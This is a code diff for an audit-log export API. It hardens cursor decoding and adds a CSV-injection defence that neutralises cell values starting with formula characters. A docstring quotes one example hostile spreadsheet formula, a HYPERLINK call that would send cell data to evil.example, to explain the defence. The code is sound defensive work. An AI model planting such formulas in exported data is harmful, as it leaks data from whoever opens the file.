@@ -16,7 +16,7 @@ from fastapi.responses import StreamingResponse
 from thallus.api.deps import AdminDep
 from thallus.audit.chain import FIELDS, timestamp
 from thallus.audit.store import AuditFilter, AuditStore
-from thallus.errors import BadRequestError, ThallusError
+from thallus.errors import ECHO_CHARS, ThallusError, ValidationError
 from thallus.storage.models import AuditLog
 
 router = APIRouter(prefix="/api/v1/audit-logs", tags=["audit"])
@@ -82,14 +82,32 @@ def encode_cursor(seq: int) -> str:
     return base64.urlsafe_b64encode(json.dumps({"before": seq}).encode()).decode().rstrip("=")
 
 
+#: ``seq`` is a 64-bit integer: a larger cursor names no record (and would overflow the query).
+MAX_SEQ = 2**63 - 1
+MAX_CURSOR_LENGTH = 64
+
+
 def decode_cursor(cursor: str) -> int:
-    try:
-        padded = cursor + "=" * (-len(cursor) % 4)
-        value = json.loads(base64.urlsafe_b64decode(padded.encode()))["before"]
-    except (ValueError, KeyError, TypeError):
-        raise BadRequestError("The cursor is not one this API returned.") from None
-    if not isinstance(value, int) or value < 1:
-        raise BadRequestError("The cursor is not one this API returned.")
+    """The ``seq`` a cursor names, or a 422 for anything this API did not return."""
+    value: Any = None
+    if len(cursor) <= MAX_CURSOR_LENGTH:
+        try:
+            padded = cursor + "=" * (-len(cursor) % 4)
+            value = json.loads(base64.urlsafe_b64decode(padded.encode()))["before"]
+        except (ValueError, KeyError, TypeError, RecursionError):
+            value = None
+    if isinstance(value, bool) or not isinstance(value, int) or not 1 <= value <= MAX_SEQ:
+        raise ValidationError(
+            "The request is invalid.",
+            details=[
+                {
+                    "type": "value_error",
+                    "loc": ["query", "cursor"],
+                    "msg": "not a cursor this API returned",
+                    "input": cursor[:ECHO_CHARS],
+                }
+            ],
+        )
     return value
 
 
@@ -127,6 +145,22 @@ async def export_audit_logs(
     )
 
 
+#: What a spreadsheet reads as a formula (or a field separator) at the start of a cell (OWASP, CSV Injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A CSV cell that no spreadsheet evaluates: text beginning with ``= + - @``, a tab or a carriage
+    return is prefixed with ``'`` (OWASP's advice; Excel and LibreOffice show it as text). A
+    user agent such as ``=HYPERLINK("https://evil.example/?x="&A2,"Details")`` would otherwise run
+    when an operator opens the export. JSON Lines stays exactly as stored."""
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 async def export_lines(audit: AuditStore, query: AuditFilter, format: str) -> AsyncIterator[bytes]:
     """The export, one page of records at a time (constant memory whatever the size)."""
     columns = ["seq", *FIELDS, "prev_hash", "hash"]
@@ -139,7 +173,7 @@ async def export_lines(audit: AuditStore, query: AuditFilter, format: str) -> As
         if format == "csv":
             details = document["details"]
             document["details"] = json.dumps(details, sort_keys=True) if details is not None else ""
-            writer.writerow(["" if document[name] is None else document[name] for name in columns])
+            writer.writerow([spreadsheet_safe(document[name]) for name in columns])
         else:
             buffer.write(json.dumps(document, sort_keys=True, default=str) + "\n")
         if buffer.tell() > 64 * 1024:
